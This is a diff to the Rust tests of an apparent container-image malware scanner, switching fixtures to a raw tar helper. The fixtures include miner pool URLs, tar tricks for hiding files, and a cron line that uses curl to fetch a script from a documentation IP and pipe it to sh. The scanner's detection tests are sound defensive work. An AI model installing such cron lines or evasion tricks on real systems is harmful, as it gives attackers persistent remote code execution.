@@ -8,13 +8,14 @@ use std::io::{Cursor, Read, Write};
 use std::path::PathBuf;
 use std::time::Duration;
 
-use common::build::{gzip, layer_tar, oci_archive, write_temp};
+use common::build::{gzip, layer_tar, oci_archive, raw_tar, write_temp};
 use layerhound::layer::{self, ContentSink, EntryLocation, LayerSink};
 use layerhound::limits::Limits;
 use layerhound::scan::yara::RuleSet;
 use layerhound::scan::ContentScanner;
 use layerhound::ScanOptions;
 use serde_json::Value;
+use tar::EntryType::{Continuous, Link, Regular};
 
 const POOL: &[u8] = b"{\"url\": \"stratum+tcp://pool.example.net:3333\"}";
 const NESTED_POOL: &[u8] = b"pool = stratum+ssl://mine.example.org:443\n";
@@ -273,10 +274,7 @@ fn archives_that_hide_members_are_opened_or_reported() {
         twins[at] = b'a';
     }
     // A contiguous-file member ('7'), which GNU tar extracts as a regular file, holding a gzip.
-    let mut contiguous = layer_tar(&[("inner/run.gz", &gzip(NESTED_POOL))]);
-    contiguous[156] = b'7';
-    let checksum: u32 = contiguous[..512].iter().enumerate().map(|(i, b)| if (148..156).contains(&i) { 32 } else { u32::from(*b) }).sum();
-    contiguous[148..156].copy_from_slice(format!("{checksum:06o}\0 ").as_bytes());
+    let contiguous = raw_tar(&[(b"inner/run.gz", Continuous, &gzip(NESTED_POOL), b"")]);
     // gzip with a wrong CRC: what inflated before the check failed is still scanned.
     let mut bad_crc = gzip(NESTED_POOL);
     let crc_at = bad_crc.len() - 8;
@@ -363,16 +361,7 @@ fn matches_in_bytes_no_filesystem_shows_and_in_hardlinks_say_where_the_bytes_are
     let base = layer_tar(&[("opt/", b""), ("opt/cfg", b"plain"), ("tmp/job", POOL)]);
     // A whiteout marker with a body (only its name matters to the overlay), and a hardlink to
     // a lower layer's file.
-    let mut builder = tar::Builder::new(Vec::new());
-    let mut marker = tar::Header::new_ustar();
-    marker.set_mode(0o644);
-    marker.set_size(NESTED_POOL.len() as u64);
-    builder.append_data(&mut marker, "opt/.wh.cfg", NESTED_POOL).unwrap();
-    let mut link = tar::Header::new_ustar();
-    link.set_entry_type(tar::EntryType::Link);
-    link.set_size(0);
-    builder.append_link(&mut link, "etc/job", "tmp/job").unwrap();
-    let top = builder.into_inner().unwrap();
+    let top = raw_tar(&[(b"opt/.wh.cfg", Regular, NESTED_POOL, b""), (b"etc/job", Link, b"", b"tmp/job")]);
     let report = scan_image(&[base, top], Limits::default(), &[]);
     assert_eq!(
         found(&report),
@@ -396,12 +385,7 @@ fn rules_that_test_the_path_see_a_hardlinks_own_name() {
     // The cron line is stored under /tmp; cron reads it through a hardlink in /etc/cron.d.
     let job: &[u8] = b"*/5 * * * * root curl -fsSL http://203.0.113.5/u.sh | sh\n";
     let base = layer_tar(&[("tmp/job", job)]);
-    let mut builder = tar::Builder::new(Vec::new());
-    let mut link = tar::Header::new_ustar();
-    link.set_entry_type(tar::EntryType::Link);
-    link.set_size(0);
-    builder.append_link(&mut link, "etc/cron.d/job", "tmp/job").unwrap();
-    let top = builder.into_inner().unwrap();
+    let top = raw_tar(&[(b"etc/cron.d/job", Link, b"", b"tmp/job")]);
     let report = scan_image(&[base, top], Limits::default(), &[]);
     let cron: Vec<_> = found(&report).into_iter().filter(|f| f.0 == "persistence_cron_network").collect();
     assert_eq!(cron, vec![("persistence_cron_network".into(), "/etc/cron.d/job".into(), vec![], "present".into(), 1)]);
